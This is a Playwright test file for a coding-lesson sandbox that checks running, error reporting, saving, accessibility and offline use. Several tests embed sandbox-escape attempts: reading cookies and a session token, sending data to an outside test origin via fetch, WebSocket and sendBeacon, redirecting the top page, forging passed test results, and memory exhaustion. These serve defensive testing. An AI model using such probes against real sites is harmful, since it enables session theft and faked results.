/**
 * Playgrounds: code that a learner changes and runs in a lesson. What it does, what it cannot reach, and that what was written is kept: on
 * every device, without a connection, by keyboard, on a small phone, and without script.
 */
import { chromium, expect, type Locator, type Page, test } from '@playwright/test';
import { at } from '#domain/contract/endpoint';
import { saveTextsEndpoint } from '#domain/contract/texts/save-texts';
import { type ShowTextsResponse, showTextsEndpoint } from '#domain/contract/texts/show-texts';
import { CHROMIUM } from '#scripts/lib/chromium';
import { type RunningAcademy, startAcademy } from '#support/academy';
import { type Client, newLearner } from '#support/api-client';
import { signInBrowser, untilSaved, untilSavedWhole } from '#support/browser';
import { builtCurriculum } from '#support/built-curriculum';
import { expectAccessible, watchPage } from '#support/inspect';
import { expectLayout } from '#support/layout';
import { openStepOf } from '#support/lesson-steps';
import {
  expectNoWorkerLeft,
  GOES_ON,
  NOTHING_GOT,
  startElsewhere,
  TAKE_500_MB,
  TAKE_MEMORY,
  workerAttacks,
} from '#support/worker-attacks';

const COURSE = 'ai-landscape-problem-framing';
const entries = builtCurriculum().courses.find(({ slug }) => slug === COURSE)?.entries ?? [];
/** Free to read, with a Playground of each kind. */
const PAGE = `/course/${COURSE}/lesson/${entries.findIndex(({ id }) => id === 'build-or-not') + 1}`;

const GOOD = {
  HTML: '<h1>Repairs</h1>\n<button id="add">One more</button>\n<p>Today: <span id="count">0</span></p>',
  CSS: 'h1 { color: green; }',
  JavaScript: `let count = 0;
document.querySelector('#add').addEventListener('click', () => {
  count += 1;
  document.querySelector('#count').textContent = count;
});`,
};
const STOPPED = 'The code was stopped, because it did not end.';

let academy: RunningAcademy;
test.beforeAll(async () => {
  academy = await startAcademy();
});
test.afterAll(() => academy.stop());

/** A Playground, once its script listens. */
async function playground(page: Page, id: 'repairs-page' | 'cost-of-parts'): Promise<Locator> {
  const part = page.locator(`[data-part-id="${id}"]`);
  await part.scrollIntoViewIfNeeded();
  await expect(runButton(part)).toBeEnabled();
  return part;
}

const runButton = (part: Locator): Locator => part.getByRole('button', { name: 'Run the code' });
const verdict = (part: Locator): Locator => part.locator('[data-verdict]');
const field = (part: Locator, language: string): Locator => part.getByRole('textbox', { name: language });
const tests = (part: Locator): Locator => part.locator('[data-test]');
const output = (part: Locator): Locator => part.getByRole('group', { name: 'Output' });

async function open(page: Page, id: 'repairs-page' | 'cost-of-parts'): Promise<Locator> {
  await page.goto(academy.origin + PAGE);
  const part = page.locator(`[data-part-id="${id}"]`);
  await openStepOf(page, part);
  return await playground(page, id);
}

async function openAs(page: Page, learner: Client, id: 'repairs-page' | 'cost-of-parts'): Promise<Locator> {
  await signInBrowser(page, academy.origin, learner);
  return await open(page, id);
}

/** After twenty seconds of loading a Playground reports that it cannot load; then its code may run for six. */
const VERDICT_MS = 30_000;

/** Runs the code, and waits for its verdict. */
async function run(part: Locator): Promise<void> {
  await verdict(part).evaluate((element) => {
    element.textContent = '';
  });
  await runButton(part).click();
  await expect(verdict(part)).not.toBeEmpty({ timeout: VERDICT_MS });
}

async function runScript(part: Locator, script: string): Promise<void> {
  await field(part, 'JavaScript').fill(script);
  await run(part);
}

test('a page is built step by step, until every test passes', async ({ page }) => {
  const watched = watchPage(page, academy.origin);
  const part = await open(page, 'repairs-page');
  await run(part);
  await expect(verdict(part)).toHaveText('0 of 3 tests passed.');
  await expect(tests(part).first()).toContainText('Not yet');
  await expect(part.getByText('a page begins with its largest heading')).toBeVisible();

  await field(part, 'HTML').fill(GOOD.HTML);
  await field(part, 'CSS').fill(GOOD.CSS);
  await run(part);
  await expect(verdict(part)).toHaveText('2 of 3 tests passed.');
  await expect(tests(part)).toContainText(['Passed', 'Passed', 'Not yet']);
  await field(part, 'JavaScript').fill(GOOD.JavaScript);
  await run(part);
  await expect(verdict(part)).toHaveText('3 of 3 tests passed.');
  await expect(part.getByText('Done', { exact: true })).toBeVisible();
  const shown = part.frameLocator('iframe');
  await expect(shown.getByRole('heading', { name: 'Repairs' })).toBeVisible();
  await shown.getByRole('button', { name: 'One more' }).click();
  await expect(shown.getByText('Today: 3')).toBeVisible();
  expect(watched.trouble).toEqual([]);
});

test('a function is called with what the tests say, and what it gave is shown', async ({ page }) => {
  const part = await open(page, 'cost-of-parts');
  await run(part);
  await expect(verdict(part)).toHaveText('0 of 2 tests passed.');
  await expect(tests(part).first()).toContainText('It gave 503. It should give 1500.');
  await runScript(
    part,
    'function cost(pieces, price) {\n  console.log("pieces:", pieces, [price]);\n  return pieces * price;\n}',
  );
  await expect(verdict(part)).toHaveText('2 of 2 tests passed.');
  await expect(output(part)).toContainText('pieces: 3 [500]');
  await expect(part.getByText('Done', { exact: true })).toBeVisible();
});

test('a mistake is reported with its line', async ({ page }) => {
  const part = await open(page, 'cost-of-parts');
  await runScript(part, 'function cost(a, b) {\n  return a * b;\n');
  await expect(verdict(part)).toContainText(/Line \d: Mistake: SyntaxError/);
  await runScript(part, 'const pieces = 3;\npiece + 1;\nfunction cost(a, b) { return a * b; }');
  await expect(verdict(part)).toContainText('Line 2: Mistake: ReferenceError: piece is not defined');
  await runScript(part, 'const cost = (a, b) => a.total * missing;');
  await expect(tests(part).first()).toContainText('ReferenceError: missing is not defined');

  const shown = await playground(page, 'repairs-page');
  await runScript(shown, '\n\nmissing();');
  await expect(verdict(shown)).toContainText('Line 3: Mistake: ReferenceError: missing is not defined');
  await runScript(shown, 'if (');
  await expect(verdict(shown)).toContainText('Line 1: Mistake: SyntaxError');
});

/** It never blocks. A loop is in the next test, its other forms in insert-loop-checks.test.ts. */
const ENDLESS = 'const again = () => Promise.resolve().then(again);\nagain();';

test('code that does not end is stopped, in a function and on a page', async ({ page }) => {
  const part = await open(page, 'cost-of-parts');
  await runScript(part, ENDLESS);
  await expect(verdict(part)).toContainText(STOPPED);
  await runScript(part, 'function cost(a, b) { while (a > 0) {} return 0; }');
  await expect(verdict(part)).toContainText(STOPPED);

  const shown = await playground(page, 'repairs-page');
  await runScript(shown, ENDLESS);
  await expect(verdict(shown)).toContainText(STOPPED);
  await runScript(shown, "document.querySelector('#add').onclick = () => { while (true) {} };");
  await expect(verdict(shown)).toContainText(STOPPED);
  await field(shown, 'JavaScript').fill('');
  await field(shown, 'HTML').fill(
    '<button id="add" onclick="for (;;) {}">One more</button><script>while (true) {}</script>',
  );
  await run(shown);
  await expect(verdict(shown)).toContainText(STOPPED);
});

test('an endless loop does not freeze the lesson where frames share its process', async () => {
  const args = ['--no-sandbox', '--disable-gpu', '--disable-features=IsolateSandboxedIframes'];
  const browser = await chromium.launch({ executablePath: CHROMIUM, args });
  const page = await browser.newPage();
  const shown = await open(page, 'repairs-page');
  await runScript(shown, 'while (true) {}');
  await expect(verdict(shown)).toContainText(STOPPED);
  const part = await playground(page, 'cost-of-parts');
  await runScript(part, 'while (true) {}');
  await expect(verdict(part)).toContainText(STOPPED);
  await runScript(part, 'const cost = (a, b) => a * b;');
  await expect(verdict(part)).toHaveText('2 of 2 tests passed.');
  await browser.close();
});

/** What code would try that someone was talked into pasting. Each says what it got, or that it got nothing. */
const attempts = (elsewhere: string): string => `
const attempts = {
  cookies: () => document.cookie,
  storage: () => localStorage.getItem('academy-session'),
  session: () => sessionStorage.length,
  databases: () => indexedDB.open('x'),
  parent: () => parent.document.title,
  top: () => top.location.href,
  worker: () => navigator.serviceWorker.controller,
  caches: () => caches.keys(),
  fetch: () => fetch('/api/academy/me'),
  elsewhere: () => fetch('${elsewhere}/'),
  request: () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve(request.status);
    request.onerror = () => reject(new Error('refused'));
    request.open('GET', '/api/academy/me');
    request.send();
  }),
  socket: () => new Promise((resolve, reject) => {
    const socket = new WebSocket('${elsewhere}/');
    socket.onopen = resolve;
    socket.onerror = () => reject(new Error('refused'));
  }),
  window: () => open('${elsewhere}/').document,
  code: () => new Function('return 1')(),
  calls: () => new RTCPeerConnection(),
  callsInFrame: () => inFrame((frame) => { frame.srcdoc = ASKS; }),
  callsInAttribute: () => inFrame((frame) => frame.setAttribute('SRCDOC', ASKS)),
  callsInText: () => inFrame((frame, place) => { place.innerHTML = '<iframe srcDoc="' + ASKS.replaceAll('"', '&quot;') + '"></iframe>'; }),
};
const ASKS = '<script>parent.postMessage(typeof RTCPeerConnection, "*")</' + 'script>';
/** A frame in the frame, which has a window of its own. */
const inFrame = (make) => new Promise((resolve, reject) => {
  const place = document.createElement('div');
  make(place.appendChild(document.createElement('iframe')), place);
  addEventListener('message', ({ data }) => resolve(data));
  const frame = place.querySelector('iframe');
  if (frame === null) reject(new Error('no frame'));
  else frame.onload = () => setTimeout(reject);
  document.body.append(place);
});
const loads = { img: 'src', script: 'src', iframe: 'src', link: 'href', video: 'src', object: 'data', embed: 'src' };
for (const [tag, attribute] of Object.entries(loads)) {
  const element = document.createElement(tag);
  element[attribute] = '${elsewhere}/' + tag;
  element.rel = 'stylesheet';
  document.body.append(element);
}
navigator.sendBeacon('${elsewhere}/beacon', 'x');
try { top.location = '${elsewhere}/top'; } catch {}
(async () => {
  for (const [name, attempt] of Object.entries(attempts)) {
    try { console.log(name + ' got ' + (await attempt())); } catch { console.log(name + ' got nothing'); }
  }
  console.log('that was all');
})();
`;

test('code reaches no network, no storage, and nothing of the academy', async ({ page }) => {
  const elsewhere = await startElsewhere();
  const learner = await newLearner(academy.origin, { enrolled: true });
  const part = await openAs(page, learner, 'repairs-page');
  const address = page.url();
  await runScript(part, attempts(elsewhere.origin));
  await expect(output(part)).toContainText('that was all');
  const got = ((await output(part).textContent()) ?? '').split('\n').filter((line) => line.includes(' got '));
  expect(got).toHaveLength(18);
  expect(got.filter((line) => !line.endsWith('got nothing'))).toEqual([]);
  expect(page.url()).toBe(address);
  expect(page.context().pages()).toHaveLength(1);

  // It may leave its own frame, but not the academy.
  const refused = page.evaluate(
    () => new Promise((resolve) => document.addEventListener('securitypolicyviolation', resolve, { once: true })),
  );
  await runScript(part, `setTimeout(() => { location = '${elsewhere.origin}/frame'; })`);
  await refused;
  expect(elsewhere.asked).toEqual([]);
  elsewhere.stop();
});

test('code in a worker reaches no network and no storage either', async ({ page }) => {
  const elsewhere = await startElsewhere();
  const part = await open(page, 'cost-of-parts');
  await runScript(part, `const cost = async () => {${workerAttacks(elsewhere.origin)}};`);
  await expect(tests(part).first()).toContainText(`It gave "${NOTHING_GOT}"`);
  expect(elsewhere.asked).toEqual([]);
  elsewhere.stop();
});

test('code that takes 500 MB takes no lesson with it', async ({ page }) => {
  const part = await open(page, 'cost-of-parts');
  await runScript(part, `const cost = () => {${TAKE_MEMORY}};`);
  await expect(verdict(part)).toContainText(/tests passed|stopped/);
  await runScript(part, 'const cost = (a, b) => a * b;');
  await expect(verdict(part)).toHaveText('2 of 2 tests passed.');

  const shown = await playground(page, 'repairs-page');
  await runScript(shown, `const take = () => {${TAKE_500_MB}};\nconsole.log('taken: ' + take());`);
  await expect(verdict(shown)).toContainText(/tests passed|stopped/);
  await runScript(shown, '');
  await expect(verdict(shown)).toContainText('of 3 tests passed.');
});

test('no worker is left of code, whatever it goes on with', async ({ page }) => {
  const started: unknown[] = [];
  page.on('worker', (worker) => started.push(worker));
  const part = await open(page, 'cost-of-parts');
  await runScript(part, `const cost = () => {${GOES_ON}\n return 0; };`);
  await expect(verdict(part)).toHaveText('1 of 2 tests passed.');
  await expectNoWorkerLeft(page, started);

  // A page that is shown goes on, until the next one takes its place.
  const shown = await playground(page, 'repairs-page');
  const before = started.length;
  await runScript(shown, GOES_ON);
  await expect.poll(() => started.length).toBeGreaterThan(before);
  await runScript(shown, '');
  await expectNoWorkerLeft(page, started);
});

test('nobody but the tests says that they passed', async ({ page }) => {
  const FORGED = "{ kind: 'results', results: [{ passed: true }, { passed: true }, { passed: true }] }";
  const shown = await open(page, 'repairs-page');
  await runScript(
    shown,
    `MessagePort.prototype.postMessage = () => {};
    parent.postMessage('academy:frame-ready', '*');
    for (const forged of [${FORGED}, { message: ${FORGED} }]) parent.postMessage(forged, '*');
    console.log('port: ' + typeof academyPort);`,
  );
  await expect(output(shown)).toContainText('port: undefined');
  await expect(verdict(shown)).toHaveText('0 of 3 tests passed.');

  const part = await playground(page, 'cost-of-parts');
  await runScript(
    part,
    `const cost = () => 0;
    for (const secret of ['', undefined, null]) postMessage({ secret, message: ${FORGED} });
    self.postMessage = () => {};`,
  );
  await expect(verdict(part)).toHaveText('1 of 2 tests passed.');

  // Another frame of the page, and the page of someone else, say that they are the frame.
  await page.evaluate((forged) => {
    const other = document.createElement('iframe');
    document.body.append(other);
    other.contentWindow?.parent.postMessage('academy:frame-ready', '*');
    window.postMessage(JSON.parse(forged), '*');
  }, '{"kind":"results","results":[{"passed":true},{"passed":true}]}');
  await run(part);
  await expect(verdict(part)).toContainText('1 of 2 tests passed.');
});

test('the frame runs nothing by itself, and nothing where it is not apart', async ({ page }) => {
  const answer = await page.request.get(`${academy.origin}/playground-frame`);
  expect(answer.headers()['content-security-policy']).toMatch(/^sandbox allow-scripts allow-forms; default-src 'none'/);
  // A proxy takes the policy away.
  await page.route('**/playground-frame', async (route) => {
    const response = await route.fetch();
    const headers = Object.fromEntries(
      Object.entries(response.headers()).filter(([name]) => name !== 'content-security-policy'),
    );
    await route.fulfill({ response, headers });
  });
  await page.goto(academy.origin + PAGE);
  const received = await page.evaluate(async () => {
    const frame = document.createElement('iframe');
    frame.src = '/playground-frame';
    const heard: unknown[] = [];
    window.addEventListener('message', ({ data }) => heard.push(data));
    const loaded = new Promise((resolve) => {
      frame.onload = resolve;
    });
    document.body.append(frame);
    await loaded;
    frame.contentWindow?.postMessage('document.title = "run"', '*');
    await new Promise((resolve) => setTimeout(resolve));
    return [heard.length, frame.contentDocument?.title];
  });
  expect(received).toEqual([0, 'Playground']);
});

test('a form tells its script that it was sent, and goes nowhere', async ({ page }) => {
  const part = await open(page, 'repairs-page');
  await field(part, 'HTML').fill(
    '<form id="sale"><input name="what"><button id="add">Add</button></form><a href="/courses">Away</a>',
  );
  await runScript(
    part,
    "document.querySelector('form').addEventListener('submit', (event) => { event.preventDefault(); console.log('sent'); });",
  );
  await expect(output(part)).toContainText('sent');
  await part.frameLocator('iframe').getByRole('link', { name: 'Away' }).click();
  await expect(output(part)).toContainText('→ /courses');
  await expect(part.frameLocator('iframe').getByRole('button', { name: 'Add' })).toBeVisible();
});

test('a guest’s code stays on the device, and can be begun again', async ({ page }) => {
  const part = await open(page, 'cost-of-parts');
  const begun = await field(part, 'JavaScript').inputValue();
  await field(part, 'JavaScript').fill('const cost = () => 1;');
  await page.reload();
  await playground(page, 'cost-of-parts');
  await expect(field(part, 'JavaScript')).toHaveValue('const cost = () => 1;');
  await part.getByRole('button', { name: 'Start again' }).click();
  await expect(field(part, 'JavaScript')).toHaveValue(begun);
  await expect(field(part, 'JavaScript')).toBeFocused();
});

async function storedCode(learner: Client): Promise<string | undefined> {
  const { path } = at(showTextsEndpoint, { kind: 'playground', place: COURSE });
  return (await learner.get<ShowTextsResponse>(path)).body.texts['cost-of-parts.js']?.value;
}

test('a learner’s code is in the account, on another device too, and nowhere else', async ({ page, browser }) => {
  const learner = await newLearner(academy.origin, { enrolled: true });
  const part = await openAs(page, learner, 'cost-of-parts');
  await field(part, 'JavaScript').fill('const cost = () => 2;');
  await expect(part.getByText('Saved in your account.')).toBeVisible();
  expect(await storedCode(learner)).toBe('const cost = () => 2;');

  const phone = await browser.newContext();
  const other = await phone.newPage();
  const there = await openAs(other, learner, 'cost-of-parts');
  await expect(field(there, 'JavaScript')).toHaveValue('const cost = () => 2;');
  await phone.close();

  const write = { kind: 'playground', place: COURSE, value: 'x', at: new Date().toISOString(), knows: [] };
  const answer = await learner.send<{ results: { outcome: string }[] }>('POST', saveTextsEndpoint.path, {
    texts: [
      { ...write, field: 'cost-of-parts.exe' },
      { ...write, field: 'cost-of-parts.js', place: 'no-such-course' },
    ],
  });
  expect(answer.body.results.map(({ outcome }) => outcome)).toEqual(['refused', 'refused']);
});

test('the button stays under the finger while what was typed is saved', async ({ page }) => {
  const learner = await newLearner(academy.origin, { enrolled: true });
  // Where the words that say how far it is are more than a line.
  await page.setViewportSize({ width: 390, height: 844 });
  const part = await openAs(page, learner, 'cost-of-parts');
  await page.route(`**${saveTextsEndpoint.path}`, (route) => route.abort());
  await field(part, 'JavaScript').fill('const cost = (a, b) => a * b;');
  await runButton(part).hover();
  const before = await runButton(part).boundingBox();
  await page.mouse.down();
  await expect(part.getByText('It goes to your account as soon as')).toBeVisible();
  expect(await runButton(part).boundingBox()).toEqual(before);
  await page.mouse.up();
  await expect(verdict(part)).toHaveText('2 of 2 tests passed.');
});

test('nothing can be typed until what was kept is back', async ({ page }) => {
  const learner = await newLearner(academy.origin, { enrolled: true });
  const part = await openAs(page, learner, 'cost-of-parts');
  await field(part, 'JavaScript').fill('const cost = () => 2;');
  await expect(part.getByText('Saved in your account.')).toBeVisible();

  let load = (): void => {};
  const held = new Promise<void>((resolve) => {
    load = resolve;
  });
  // The words that say how far a text is kept come before the text of the account is shown.
  await page.route('**/late-texts-*', async (route) => {
    await held;
    await route.continue();
  });
  await page.reload();
  await part.scrollIntoViewIfNeeded();
  await expect(runButton(part)).toBeEnabled();
  // A letter typed now would be newer than all that was kept.
  await expect(field(part, 'JavaScript')).not.toBeEditable();
  await field(part, 'JavaScript').focus();
  await page.keyboard.type('x');
  load();
  await expect(field(part, 'JavaScript')).toHaveValue('const cost = () => 2;');
  await expect(field(part, 'JavaScript')).toBeEditable();
  expect(await storedCode(learner)).toBe('const cost = () => 2;');
});

test('by keyboard Tab leaves the code, and Enter runs it', async ({ page }) => {
  const part = await open(page, 'cost-of-parts');
  const code = field(part, 'JavaScript');
  // The button can be pressed before the code can be changed.
  await expect(code).toBeEditable();
  await code.focus();
  await expect(code).toBeFocused();
  await page.keyboard.press('Control+A');
  await page.keyboard.type('const cost = (a, b) => a * b;');
  await page.keyboard.press('Tab');
  await expect(runButton(part)).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(verdict(part)).toHaveText('2 of 2 tests passed.');
  await expect(runButton(part)).toBeFocused();
});

test('is accessible before and after it was run, with a mistake too', async ({ page }) => {
  const part = await open(page, 'repairs-page');
  await runScript(part, 'missing();');
  await expectAccessible(page);
  await field(part, 'HTML').fill(GOOD.HTML);
  await field(part, 'CSS').fill(GOOD.CSS);
  await runScript(part, GOOD.JavaScript);
  await expect(verdict(part)).toHaveText('3 of 3 tests passed.');
  await expectAccessible(page);
});

test.describe('on a small phone', () => {
  test.use({ viewport: { width: 320, height: 640 }, hasTouch: true, isMobile: true });

  test('symbols that its keyboard hides are a tap away, and nothing is cut', async ({ page }) => {
    const part = await open(page, 'cost-of-parts');
    const code = field(part, 'JavaScript');
    await code.fill('const cost = () ');
    await code.focus();
    await expect(code).toBeFocused();
    const symbols = part.getByRole('group', { name: 'Symbols' });
    for (const symbol of ['=', '>']) await symbols.getByRole('button', { name: symbol, exact: true }).tap();
    await expect(code).toHaveValue('const cost = () =>');
    await expect(code).toBeFocused();
    await run(part);
    await expectLayout(page);
  });
});

test('says what it has to say in Kinyarwanda', async ({ page }) => {
  await page.goto(`${academy.origin}/rw${PAGE}`);
  const part = page.locator('[data-part-id="cost-of-parts"]');
  await part.scrollIntoViewIfNeeded();
  // The lesson has no version in this language, so its parts speak the language of their text.
  await expect(runButton(part)).toBeEnabled();
  await run(part);
  await expect(verdict(part)).toHaveText('0 of 2 tests passed.');
});

test('reads whole without JavaScript', async ({ browser }) => {
  const plain = await browser.newContext({ javaScriptEnabled: false });
  const page = await plain.newPage();
  await page.goto(academy.origin + PAGE);
  const part = page.locator('[data-part-id="cost-of-parts"]');
  await expect(part.getByText('Correct the function')).toBeVisible();
  await expect(field(part, 'JavaScript')).toHaveValue(/return pieces \+ price;/);
  await expect(part.getByText('3 pieces at 500 RWF cost 1,500')).toBeVisible();
  await expect(runButton(part)).toBeHidden();
  await part.getByText('The answer').click();
  await expect(part.getByText('return pieces * price;')).toBeVisible();
  await plain.close();
});

test.describe('without a connection', () => {
  test.use({ serviceWorkers: 'allow' });

  test('code runs, and what was written waits on the device', async ({ page, context }) => {
    const learner = await newLearner(academy.origin, { enrolled: true });
    await openAs(page, learner, 'repairs-page');
    await untilSavedWhole(page, academy.origin, PAGE);
    await untilSaved(page, ['/playground-frame']);
    await context.setOffline(true);
    await page.reload();
    const shown = await playground(page, 'repairs-page');
    await field(shown, 'HTML').fill(GOOD.HTML);
    await field(shown, 'CSS').fill(GOOD.CSS);
    await runScript(shown, GOOD.JavaScript);
    await expect(verdict(shown)).toHaveText('3 of 3 tests passed.');

    const part = await playground(page, 'cost-of-parts');
    await runScript(part, 'const cost = (a, b) => a * b;');
    await expect(verdict(part)).toHaveText('2 of 2 tests passed.');
    await expect(part.getByText('Saved on this device.')).toBeVisible();
    await page.reload();
    await playground(page, 'cost-of-parts');
    await expect(field(part, 'JavaScript')).toHaveValue('const cost = (a, b) => a * b;');
    await context.setOffline(false);
    await expect.poll(() => storedCode(learner)).toBe('const cost = (a, b) => a * b;');
  });
});
